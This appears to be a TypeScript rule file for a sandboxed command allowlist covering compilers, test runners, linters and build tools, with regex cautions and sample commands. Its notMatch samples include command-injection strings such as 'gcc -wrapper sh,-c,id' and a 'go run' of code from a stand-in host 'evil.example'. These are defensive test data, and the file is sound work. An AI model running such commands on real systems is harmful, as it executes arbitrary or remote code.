/** Compilers, test runners, linters: what they run is the project's own code, which the sandbox holds. */
import type { Caution, ToolRule, VerbGroup } from '../tool-rule.ts';

const watches: Caution = { word: /^(?:--watch(?:All|-all)?(?:=(?!false).*)?|--serve|--livereload)$/, concern: 'never_ends', message: 'watches for ever' };
const inspects: Caution = { word: /^--(?:inspect|debug-port|remote-debugging|debug-brk|ui$|host\b)/, concern: 'runs_other_code', message: 'opens a debugger or a server' };
const servers: VerbGroup = { verbs: ['dev', 'serve', 'preview', 'start', 'watch', 'server', 'ssr', 'develop', 'storybook'], concern: 'never_ends', message: 'a server that runs until it is stopped' };

const compilers = ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'ld', 'as', 'gfortran', 'rustc', 'javac', 'kotlinc', 'scalac', 'ghc', 'ocamlc', 'nasm', 'swiftc', 'zig', 'tsc', 'esbuild', 'swc', 'babel', 'sass', 'protoc', 'flex', 'bison', 'yacc', 'lex', 'pkg-config', 'strip', 'ranlib', 'objcopy', 'emcc', 'wasm-pack', 'latexmk', 'pdflatex', 'xelatex'];
const checkers = ['eslint', 'prettier', 'biome', 'oxlint', 'stylelint', 'standard', 'xo', 'tslint', 'jshint', 'jest', 'vitest', 'mocha', 'ava', 'tap', 'jasmine', 'karma', 'c8', 'nyc', 'tsx', 'ts-node', 'knip', 'depcheck', 'madge', 'depcruise', 'publint', 'size-limit', 'commitlint', 'lint-staged', 'typedoc', 'jsdoc', 'markdownlint', 'markdownlint-cli2', 'cspell', 'vue-tsc', 'svelte-check', 'tsd', 'attw', 'rollup', 'tsup', 'unbuild', 'microbundle', 'webpack', 'webpack-cli', 'terser', 'uglifyjs', 'postcss', 'tailwindcss', 'graphql-codegen', 'openapi-typescript', 'changeset', 'rimraf', 'playwright', 'cypress', 'cucumber-js', 'stryker', 'dprint', 'rome', 'licensee', 'sort-package-json', 'syncpack', 'ncc', 'vsce', 'conventional-changelog', 'prisma', 'husky'];
const pythonTools = ['pytest', 'py.test', 'black', 'ruff', 'isort', 'flake8', 'pylint', 'mypy', 'pyright', 'bandit', 'coverage', 'yapf', 'autopep8', 'pydocstyle', 'pycodestyle', 'vulture', 'sphinx-build', 'nose2', 'behave', 'cython', 'autoflake', 'pyupgrade', 'djlint', 'basedpyright', 'ty'];
const otherTools = ['clang-format', 'clang-tidy', 'cppcheck', 'shellcheck', 'shfmt', 'hadolint', 'yamllint', 'gofmt', 'goimports', 'golangci-lint', 'staticcheck', 'rustfmt', 'rubocop', 'rspec', 'phpunit', 'phpstan', 'phpcs', 'phpcbf', 'psalm', 'pest', 'checkstyle', 'ktlint', 'detekt', 'swiftlint', 'swiftformat', 'terraform-docs', 'tflint', 'actionlint', 'buf', 'ctest', 'gcov', 'lcov', 'doxygen', 'dart', 'flutter', 'mix', 'elixir', 'stack', 'cabal', 'lein', 'sbt', 'bazel', 'buck2', 'stylua', 'luacheck', 'busted', 'hugo', 'mkdocs', 'jekyll', 'just', 'task', 'tox', 'nox', 'pre-commit', 'rake', 'invoke', 'codespell', 'vale', 'typos', 'editorconfig-checker', 'standardrb', 'reek', 'brakeman', 'erb', 'elm', 'elm-test', 'nim', 'crystal', 'gleam', 'rebar3', 'cmake-format', 'meson', 'ninja', 'autoconf', 'automake', 'autoreconf', 'libtool', 'perltidy', 'perlcritic', 'prove', 'xcodebuild', 'swift', 'pod-lint'];

export const builderRules: readonly ToolRule[] = [
  {
    id: 'workspace.compile',
    programs: compilers,
    paths: 'write',
    cautions: [
      { word: /^(?:-wrapper|-fplugin|-specs|--specs|-B|@|-Xclang|-load|-plugin|-dynamic-linker|--plugin|-fuse-ld=\/|-C ?linker|-Clinker|-shell-escape|--shell-escape|-enable-write18|--servedir|-J-|-processorpath|-F$|-pgm)/, concern: 'runs_other_code', message: 'runs another program' },
      watches,
    ],
    justification: 'compiles files of the workspace',
    match: ['gcc -O2 -o app main.c', 'tsc --noEmit', 'npx tsc --noEmit', 'rustc main.rs', 'javac X.java'],
    notMatch: ['gcc -wrapper sh,-c,id x.c', 'gcc -o /outside/a main.c', 'gcc -fplugin=./x.so a.c', 'tsc --watch', 'esbuild --servedir=. x.ts', 'pdflatex -shell-escape x.tex'],
  },
  {
    id: 'workspace.check',
    programs: [...checkers, ...pythonTools, ...otherTools],
    paths: 'write',
    textOptions: ['-k', '-m', '-t', '--grep', '--testNamePattern', '-g', '--project', '--filter', '--reporter', '--ext'],
    cautions: [
      watches,
      inspects,
      { word: /^(?:--pdb|--trace|--pastebin|--debugger|--remote|--cache-location=\/)/, concern: 'runs_other_code', message: 'opens a debugger or sends something' },
      { word: /^https?:\/\//, concern: 'network_blocked', message: 'an address' },
    ],
    verbs: [
      servers,
      { verbs: ['install', 'add', 'publish', 'deploy', 'upload', 'login', 'update', 'upgrade', 'codegen', 'open', 'debug', 'show-trace', 'show-report'], concern: 'network_blocked', message: 'needs the network or a window' },
    ],
    justification: 'checks, tests and builds the project; its code runs in the sandbox',
    match: ['npx eslint src --ext .ts', 'npx vitest run', 'pytest tests/test_sudo.py', 'ruff check .', 'prettier --write src', 'jest -t "curl x"', 'npx playwright test'],
    notMatch: ['npx vitest --watch', 'jest --watchAll', 'pytest --pdb', 'npx webpack serve', 'pre-commit install', 'npx playwright install', 'eslint /outside', 'vitest --inspect-brk'],
  },
  {
    id: 'workspace.bundler',
    programs: ['vite', 'next', 'nuxt', 'astro', 'remix', 'gatsby', 'parcel', 'ng', 'nx', 'turbo', 'lerna', 'expo', 'svelte-kit', 'vue-cli-service', 'react-scripts', 'storybook', 'docusaurus', 'eleventy', 'rsbuild', 'rspack', 'farm'],
    paths: 'write',
    cautions: [watches, inspects],
    verbs: [
      servers,
      { verbs: [undefined], concern: 'never_ends', message: 'a server that runs until it is stopped' },
      { verbs: ['add', 'update', 'publish', 'login', 'deploy', 'install', 'telemetry', 'login'], concern: 'network_blocked', message: 'needs the network' },
    ],
    justification: 'builds the project',
    match: ['npx vite build', 'next build', 'turbo run test', 'ng test', 'nx build app'],
    notMatch: ['npx vite', 'next dev', 'ng serve', 'astro preview', 'lerna publish'],
  },
  {
    id: 'workspace.make',
    programs: ['make', 'gmake', 'bmake', 'cmake', 'mvn', 'mvnw', 'gradle', 'gradlew', 'ant'],
    paths: 'write',
    cautions: [
      { word: /^(?:SHELL|MAKEFLAGS|CC|CXX|LD|AR|MAKE|\.SHELLFLAGS)=/, concern: 'environment', message: 'changes the programs that are run' },
      { word: /^(?:--eval|-E$|-f-$|-P$|-f=?-$)/, concern: 'runs_other_code', message: 'instructions that are no file of the workspace' },
      { word: /^(?:deploy|publish|release:.*|wrapper|--scan|dependency:get|exec:exec|--init-script|-I$)$/, concern: 'network_blocked', message: 'needs the network' },
      { word: /^-$/, concern: 'runs_other_code', message: 'instructions from standard input' },
      { word: /^(?:--server|--open)$/, concern: 'never_ends', message: 'a server' },
    ],
    justification: 'builds by the instructions of the project, which the sandbox holds',
    match: ['make', 'make format', 'make -j4 test', 'make -C sub all', 'cmake --build build', 'cmake -S . -B build', 'mvn test'],
    notMatch: ['make SHELL=./x', 'make -f -', 'make -C /outside', 'mvn deploy', "make --eval 'x:;id'"],
  },
  {
    id: 'workspace.cargo',
    programs: ['cargo'],
    paths: 'write',
    cautions: [{ word: /^(?:--config|-Z|\+)/, concern: 'runs_other_code', message: 'changes the tool chain or the programs that are run' }],
    verbs: [
      { verbs: ['build', 'b', 'test', 't', 'check', 'c', 'run', 'r', 'clippy', 'fmt', 'doc', 'bench', 'tree', 'clean', 'metadata', 'nextest', 'expand', 'init', 'new', 'fix', 'version', 'rustc', 'llvm-cov', 'machete', 'deny', 'audit', undefined] },
      { verbs: ['install', 'add', 'update', 'fetch', 'publish', 'search', 'login', 'logout', 'owner', 'yank', 'vendor', 'generate-lockfile', 'remove'], concern: 'network_blocked', message: 'needs the network' },
    ],
    justification: 'builds and tests Rust code',
    match: ['cargo test --release', 'cargo build', 'cargo clippy -- -D warnings', 'cargo fmt --check'],
    notMatch: ['cargo install x', 'cargo publish', 'cargo --config x=y build', 'cargo build --config x', 'cargo unknown-plugin'],
  },
  {
    id: 'workspace.go',
    programs: ['go'],
    paths: 'write',
    cautions: [
      { word: /^--?(?:toolexec|exec|overlay|modfile|ldflags=.*-extld|gccgoflags|compiler|vettool|C$)/, concern: 'runs_other_code', message: 'runs another program' },
      { word: /@(?:latest|v\d|master|main|upgrade)/, concern: 'network_blocked', message: 'downloads a module' },
      { word: /^-w$/, concern: 'environment', message: 'changes settings' },
    ],
    verbs: [
      { verbs: ['build', 'test', 'vet', 'fmt', 'run', 'list', 'doc', 'env', 'version', 'generate', 'clean', 'fix', 'help'] },
      { verbs: ['mod', 'work', 'get', 'install', 'telemetry'], concern: 'network_blocked', message: 'needs the network' },
    ],
    justification: 'builds and tests Go code',
    match: ['go build ./...', 'go test ./...', 'go vet ./...', 'go run ./cmd/x', 'go test -run TestX ./pkg'],
    notMatch: ['go get x', 'go install x@latest', 'go run evil.example/x@latest', 'go build -toolexec=./x', 'go env -w GOFLAGS=x', 'go tool pprof -http=:1 x'],
  },
  {
    id: 'workspace.dotnet',
    programs: ['dotnet'],
    paths: 'write',
    textOptions: ['--filter', '-c', '--configuration'],
    verbs: [
      { verbs: ['build', 'test', 'run', 'format', 'clean', 'publish', 'pack', 'sln', 'new', 'list', 'msbuild', '--version', '--info', '--list-sdks'] },
      { verbs: ['restore', 'nuget', 'tool', 'add', 'workload', 'dev-certs', 'watch', 'user-secrets'], concern: 'network_blocked', message: 'needs the network' },
    ],
    justification: 'builds and tests .NET code',
    match: ['dotnet build', 'dotnet format', 'dotnet test --filter X'],
    notMatch: ['dotnet tool install x', 'dotnet nuget push x', 'dotnet watch'],
  },
];
